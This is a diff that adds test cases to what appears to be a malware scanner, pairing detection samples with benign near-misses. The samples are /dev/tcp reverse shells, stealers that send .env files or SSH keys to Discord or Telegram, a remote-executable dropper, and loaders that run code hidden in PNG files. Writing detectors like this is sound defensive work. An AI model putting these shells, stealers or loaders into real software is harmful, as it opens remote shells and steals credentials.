@@ -144,6 +144,61 @@ fn reverse_shells_vs_neighbours() {
 }
 
 #[test]
+fn dev_tcp_reverse_shell_vs_port_probe() {
+    // Descriptors duplicated into the socket: a shell driven from the other end.
+    let shells = [
+        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
+        "bash -i &> /dev/udp/203.0.113.5/53\n",
+        "/bin/bash > /dev/tcp/203.0.113.5/4444 0<&1 2>&1\n",
+        "0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196\n",
+        "exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read line; do $line 2>&5 >&5; done\n",
+    ];
+    for sh in shells {
+        assert_eq!(sev("run.sh", sh), Some(Severity::Critical), "{sh}");
+    }
+    // wait-for-it.sh (vendored everywhere): a port probe whose `2>&1` goes to /dev/null.
+    let probe = "wait_for() {\n  while :\n  do\n    if [[ $ISBUSY -eq 1 ]]; then\n      nc -z $HOST $PORT\n      result=$?\n    else\n      (echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1\n      result=$?\n    fi\n  done\n}\n";
+    clean("docker/wait-for-it.sh", probe);
+    // A bash HTTP client on a socket descriptor: no shell reads from it.
+    let http = "exec 3<>/dev/tcp/localhost/8080; echo -e 'GET /health HTTP/1.0\\r\\n' >&3; cat <&3\n";
+    clean("scripts/health.sh", http);
+    // `-i` of another tool on a probe line is no interactive shell.
+    clean("scripts/probe.sh", "grep -i ok < /dev/tcp/localhost/80 2>&1\n");
+}
+
+#[test]
+fn env_file_bot_vs_env_stealer() {
+    // A trading bot parsing its own token out of .env and posting to its own chat: worth a
+    // look, not a verdict.
+    let bot = r#"import requests
+env = open('.env').read()
+TOKEN = env.split('TOKEN=')[1].split()[0]
+CHAT = env.split('CHAT_ID=')[1].split()[0]
+def notify(data):
+    requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', data={'chat_id': CHAT, 'text': data})
+"#;
+    let f = malware("bot/notify.py", bot).expect("bot");
+    assert!(f.severity <= Severity::High, "{f:?}");
+    let js_bot = "const fs = require('fs');\nconst env = fs.readFileSync('.env', 'utf8');\nconst token = env.match(/BOT_TOKEN=(.*)/)[1];\nawait fetch(`https://api.telegram.org/bot${token}/sendMessage`, { method: 'POST', body: JSON.stringify({ chat_id: 1, text: 'filled' }) });\n";
+    assert!(sev("src/bot.js", js_bot) <= Some(Severity::High));
+    let hook_bot = "import requests\nwith open('.env') as fh:\n    cfg = fh.read()\nHOOK = 'https://discord.com/api/webhooks/1/abc'\nrequests.post(HOOK, json={'content': 'BTC up'})\n";
+    assert!(sev("bot/hook.py", hook_bot) <= Some(Severity::High));
+
+    // The raw contents sent: a stealer, whichever channel.
+    let stealer = "import requests\nWEBHOOK = 'https://discord.com/api/webhooks/123/abc'\ndata = open('.env').read()\nrequests.post(WEBHOOK, json={'content': data})\n";
+    assert_eq!(sev("pkg/__init__.py", stealer), Some(Severity::Critical));
+    let inline = "import requests\nrequests.post('https://api.telegram.org/bot1:AA/sendDocument', data={'chat_id': 1}, files={'document': open('.env', 'rb')})\n";
+    assert_eq!(sev("pkg/setup_hook.py", inline), Some(Severity::Critical));
+    let handle = "import requests\nwith open('.env') as fh:\n    blob = fh.read()\nrequests.post('https://discord.com/api/webhooks/1/abc', json={'content': blob})\n";
+    assert_eq!(sev("pkg/x.py", handle), Some(Severity::Critical));
+    let js = "const env = require('fs').readFileSync('.env', 'utf8');\nfetch(`https://api.telegram.org/bot${T}/sendMessage`, { method: 'POST', body: JSON.stringify({ chat_id: C, text: env }) });\n";
+    assert_eq!(sev("src/init.js", js), Some(Severity::Critical));
+    // ~/.ssh with the same bot channel stays critical.
+    let ssh = "import requests, os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', data={'chat_id': CHAT, 'text': 'hi'})\n";
+    assert_eq!(sev("pkg/y.py", ssh), Some(Severity::Critical));
+}
+
+#[test]
 fn download_and_execute_vs_own_release_installer() {
     let dropper = "import urllib.request, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'upd.exe')\nurllib.request.urlretrieve('http://45.61.136.10/upd.exe', p)\nos.startfile(p)\n";
     let f = malware("pkg/core.py", dropper).expect("dropper");
@@ -342,6 +397,32 @@ fn steganographic_loader() {
     assert_eq!(sev("pkg/img.py", s), Some(Severity::Critical));
     let ok = "from PIL import Image\nimg = Image.open('logo.png')\npixels = list(img.getdata())\nprint(len(pixels))\n";
     clean("pkg/thumb.py", ok);
+    // Python: an image's trailing bytes opened by a handle, then run.
+    let tail = "import zlib\nwith open('assets/banner.png', 'rb') as fh:\n    blob = fh.read()\npayload = blob[blob.rfind(b'IEND') + 8:]\nexec(zlib.decompress(payload))\n";
+    assert_eq!(sev("pkg/banner.py", tail), Some(Severity::Critical));
+    let spread = "with open('assets/banner.png', 'rb') as fh:\n    blob = fh.read()\nexec(\n    zlib.decompress(blob[-400:])\n)\n";
+    assert_eq!(sev("pkg/banner2.py", spread), Some(Severity::Critical));
+    // Python near miss: an image read, then an unrelated exec of a config file.
+    let other = "with open('assets/banner.png', 'rb') as fh:\n    blob = fh.read()\nexec(open('settings.py').read())\n";
+    assert_ne!(sev("pkg/cfg.py", other), Some(Severity::Critical));
+}
+
+#[test]
+fn image_stego_loader_vs_image_optimiser() {
+    // JavaScript loader: bytes after the PNG's IEND chunk evaluated.
+    let stego = "const fs = require('fs');\nconst buf = fs.readFileSync(__dirname + '/logo.png');\nconst code = buf.slice(buf.lastIndexOf('IEND') + 8).toString('utf8');\neval(code);\n";
+    assert_eq!(sev("lib/logo.js", stego), Some(Severity::Critical));
+    let vm = "const vm = require('vm');\nconst px = ctx.getImageData(0, 0, 64, 64).data;\nconst src = Array.from(px).filter((_, i) => i % 4 === 0).map(c => String.fromCharCode(c)).join('');\nvm.runInThisContext(src);\n";
+    assert_eq!(sev("lib/px.js", vm), Some(Severity::Critical));
+    // An image optimiser: child_process `exec` of a command next to an image read.
+    let optimiser = "const { exec } = require('child_process');\nconst fs = require('fs');\nfor (const f of files) {\n  const input = fs.readFileSync(`${dir}/${f}.png`);\n  exec(`pngquant --force ${f}`);\n}\n";
+    clean("scripts/optimise.js", optimiser);
+    // An image read and an eval of something else.
+    let cfg = "const img = fs.readFileSync('icon.png');\nconst settings = eval('(' + json + ')');\n";
+    clean("lib/icon.js", cfg);
+    // PHP `exec` runs a shell command, not code.
+    let php = "<?php\n$img = file_get_contents('in.png');\n$bytes = fread($fh, 10);\nexec(\"optipng in.png\");\n";
+    clean("tools/opt.php", php);
 }
 
 #[test]
